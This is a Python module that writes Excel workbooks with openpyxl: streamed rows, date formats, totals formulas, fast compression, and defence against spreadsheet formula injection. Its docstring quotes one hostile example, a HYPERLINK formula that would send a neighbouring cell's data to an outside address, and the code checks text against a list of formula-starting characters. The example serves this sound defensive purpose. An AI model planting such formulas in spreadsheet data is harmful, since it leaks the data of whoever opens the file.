"""Writing Excel workbooks that open safely and that Desk reads back unchanged.

- Text stays text: a cell whose text starts with `=`, `+`, `-`, `@`, a tab or a carriage return
  would be a formula in Excel (a name typed as `=HYPERLINK("http://...?d="&D2,"Klik")` becomes a
  live link that sends the neighbouring cell away). Such cells are written as text cells with
  Excel's "quote prefix" style, so Excel shows them as typed, editing them keeps them text, and
  Desk imports its own export unchanged.
- Numbers and dates are real numbers and dates (with a date format), so a spreadsheet can sum
  and sort them.
- Each sheet: bold heading row, frozen under the heading (or where asked), an autofilter over
  the data, column widths, wrapped text where a column asks for it.
- A total the sheet should keep up to date is a `Formula` (Desk's own, never a user's text), in a
  bold totals row under the data, outside the autofilter so sorting never moves it.
- Rows stream through openpyxl's write-only mode, so a recap of a million requests does not hold
  a million cells in memory.
- The file is deflated at zlib's fastest level rather than openpyxl's default (6): a register of
  100,000 lines is written about 0.8 s sooner (its sheet's 105 MB of XML deflate in 0.5 s rather
  than 1.3 s) for a file a quarter larger (15.3 MB rather than 11.9 MB).
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Iterable, Sequence
from contextlib import suppress
from dataclasses import dataclass
from datetime import UTC, date, datetime, time
from functools import cache
from typing import Any, BinaryIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
DATE_FORMAT = "DD-MM-YYYY"
DATETIME_FORMAT = "DD-MM-YYYY HH:MM"
HEADING_FILL = "DDEBF7"
# What the file format cannot hold at all (openpyxl refuses these; old rows may still carry them).
_ILLEGAL = re.compile(r"[\000-\010]|[\013-\014]|[\016-\037]")


@dataclass(frozen=True, slots=True)
class Column:
    heading: str
    width: float = 15
    number_format: str = ""  # for numbers; dates get DATE_FORMAT unless told otherwise
    wrap: bool = False  # multi-line text: wrapped and aligned to the top


@dataclass(frozen=True, slots=True)
class Formula:
    """A formula Desk writes on purpose ("=SUM(B2:B20)"); any str value stays text."""

    text: str

    @staticmethod
    def column_sum(column: int, first_row: int, last_row: int) -> Formula:
        """=SUM over rows `first_row`..`last_row` of the 1-based `column`."""
        from openpyxl.utils import get_column_letter

        letter = get_column_letter(column)
        return Formula(f"=SUM({letter}{first_row}:{letter}{last_row})")


@dataclass(frozen=True, slots=True)
class Sheet:
    title: str
    columns: Sequence[Column]
    rows: Iterable[Sequence[object]]
    freeze: str | None = "A2"  # the first cell that scrolls; None: nothing frozen
    autofilter: bool = True
    heading_style: bool = True  # bold on a light blue fill; False: bold only (a sheet of notes)
    totals: Sequence[object] | None = None  # a bold row under the data (Formula cells for sums)


def is_formula_like(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def write_xlsx(sheets: Sequence[Sheet], target: BinaryIO | None = None) -> bytes:
    """Write the workbook to `target` (a binary file), or return its bytes."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    try:
        for sheet in sheets:
            _write_sheet(book, sheet)
    except BaseException:
        for ws in book.worksheets:  # end their row writers now rather than when collected
            with suppress(Exception):
                ws.close()
        raise
    if target is not None:
        _save(book, target)
        return b""
    buffer = io.BytesIO()
    _save(book, buffer)
    return buffer.getvalue()


def _save(book: Any, target: BinaryIO) -> None:
    """What openpyxl's `Workbook.save` does, with the archive deflated at the fastest level."""
    from zipfile import ZIP_DEFLATED, ZipFile

    from openpyxl.writer.excel import ExcelWriter

    if not book.worksheets:
        book.create_sheet()
    book.properties.modified = datetime.now(UTC).replace(tzinfo=None)
    with ZipFile(target, "w", ZIP_DEFLATED, allowZip64=True, compresslevel=zlib.Z_BEST_SPEED) as archive:
        ExcelWriter(book, archive).save()


def _write_sheet(book: Any, sheet: Sheet) -> None:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment, Font, PatternFill
    from openpyxl.utils import get_column_letter

    ws = book.create_sheet(sheet.title[:31])  # Excel's limit for a sheet name
    for index, column in enumerate(sheet.columns, start=1):
        ws.column_dimensions[get_column_letter(index)].width = column.width
    if sheet.freeze:
        ws.freeze_panes = sheet.freeze  # must precede the first row: write-only sheets write their view first
    bold = Font(bold=True)
    fill = PatternFill("solid", fgColor=HEADING_FILL) if sheet.heading_style else None
    wrap = Alignment(wrap_text=True, vertical="top")
    heading = []
    for column in sheet.columns:
        cell = WriteOnlyCell(ws, value=_safe_text(column.heading))
        cell.font = bold
        if fill is not None:
            cell.fill, cell.alignment = fill, wrap
        elif column.wrap:
            cell.alignment = wrap
        heading.append(cell)
    ws.append(heading)
    makers = [_ColumnCells(ws, column, wrap).cell for column in sheet.columns]
    # Columns whose printable text goes to openpyxl as it is (not wrapped): the common cell is decided
    # here, in the row's own loop, without a call per value (a tenth of the export's time at 100k rows).
    bare_text = [not column.wrap for column in sheet.columns]
    count = 0
    for values in sheet.rows:
        if len(values) > len(makers):  # more values than columns: the rest unstyled, as plain values
            makers += [_ColumnCells(ws, Column(""), wrap).cell for _ in range(len(values) - len(makers))]
            bare_text += [True] * (len(makers) - len(bare_text))
        ws.append([
            value if type(value) is str and value and bare and value.isprintable()
            and not value.startswith(FORMULA_STARTS) else make(value)
            for make, bare, value in zip(makers, bare_text, values, strict=False)
        ])
        count += 1
    if sheet.totals is not None:
        row = []
        for value, column in zip(sheet.totals, _padded(sheet.columns, len(sheet.totals)), strict=False):
            cell = WriteOnlyCell(ws, value=value.text) if isinstance(value, Formula) else \
                _ColumnCells(ws, column, wrap).cell(value)
            if cell is not None and not hasattr(cell, "font"):  # a plain value: a cell, so it can be bold
                cell = WriteOnlyCell(ws, value=cell)
            if cell is not None:
                cell.font = bold
                if column.number_format:
                    cell.number_format = column.number_format
            row.append(cell)
        ws.append(row)
    if sheet.autofilter and sheet.columns:
        ws.auto_filter.ref = f"A1:{get_column_letter(len(sheet.columns))}{count + 1}"


def _padded(columns: Sequence[Column], width: int) -> Sequence[Column]:
    return columns if len(columns) >= width else [*columns, *[Column("")] * (width - len(columns))]


def _safe_text(value: str) -> str:
    # Printable text holds no control character (the common case, without a regular expression).
    return value if value.isprintable() else _ILLEGAL.sub("", value)


class _ColumnCells:
    """One column's values as a write-only sheet's `append` takes them.

    Text, numbers and booleans go as plain values (openpyxl binds them itself, no style). A value that
    needs a style (a date's format, the column's number format, wrapped text) goes in a cell this
    column keeps per type of value and fills again on every row: `append` writes the row before it
    returns, so one styled cell serves every row, where a new one per value would cost a cell object
    and a style lookup each time. Text that looks like a formula gets a cell of its own (its quote
    prefix is a style of that cell only). Empty text is an empty cell: Excel counts "" as a value.
    """

    __slots__ = ("number_format", "styled", "wrap", "wraps", "ws")

    def __init__(self, ws: Any, column: Column, wrap: Any) -> None:
        self.ws, self.wrap = ws, wrap
        self.number_format, self.wraps = column.number_format, column.wrap
        self.styled: dict[type, Any] = {}

    def cell(self, value: object) -> Any:
        if value is None:
            return None
        kind = type(value)
        if kind is datetime or kind is date:
            cell = self.styled.get(kind)
            if cell is not None and (kind is date or value.tzinfo is None):  # type: ignore[union-attr]
                # This cell was bound to a value of this type once (its type "d" and date format set
                # then); binding again through `cell.value` would only look its style up again, about
                # 1.5 µs a date, three dates a register line.
                cell._value = value
                return cell
        if isinstance(value, str):
            if not value:
                return None
            text = _safe_text(value)
            if text.startswith(FORMULA_STARTS):
                return self._quoted(text)
            return self._styled(text, "") if self.wraps else text
        if kind is int or kind is float:
            return self._styled(value, self.number_format) if self.number_format or self.wraps else value
        if isinstance(value, datetime | time):
            if value.tzinfo is not None:
                raise ValueError("Excel has no time zones: pass the local time the sheet should show")
            return self._styled(value, self.number_format or (DATETIME_FORMAT if isinstance(value, datetime) else ""))
        if isinstance(value, date):
            return self._styled(value, self.number_format or DATE_FORMAT)
        if self.number_format or self.wraps:
            return self._styled(value, self.number_format)
        return value

    def _styled(self, value: object, number_format: str) -> Any:
        kind = type(value)
        cell = self.styled.get(kind)
        if cell is None:
            cell = _row_cell_class()(self.ws, row=1, column=1)
            if number_format:  # before the value: a date then keeps this format rather than openpyxl's default
                cell.number_format = number_format
            if self.wraps:
                cell.alignment = self.wrap
            self.styled[kind] = cell
        cell.value = value
        return cell

    def _quoted(self, text: str) -> Any:
        from openpyxl.cell import WriteOnlyCell

        cell = WriteOnlyCell(self.ws, value=text)
        cell.data_type = "s"  # openpyxl made it a formula on assignment
        cell.quotePrefix = True
        if self.wraps:
            cell.alignment = self.wrap
        return cell


@cache
def _row_cell_class() -> type:
    """openpyxl's cell, for the styled cells a column fills again on every row.

    A write-only sheet's `append` first tries each value as a plain value and, for a cell, formats its
    refusal with the cell's repr before taking the cell as it is; openpyxl's repr works out the cell's
    sheet and coordinate, about 1.4 µs, three times a register line. This one's repr is a constant.
    """
    from openpyxl.cell.cell import Cell

    class RowCell(Cell):
        __slots__ = ()

        def __repr__(self) -> str:
            return "<cell>"

    return RowCell
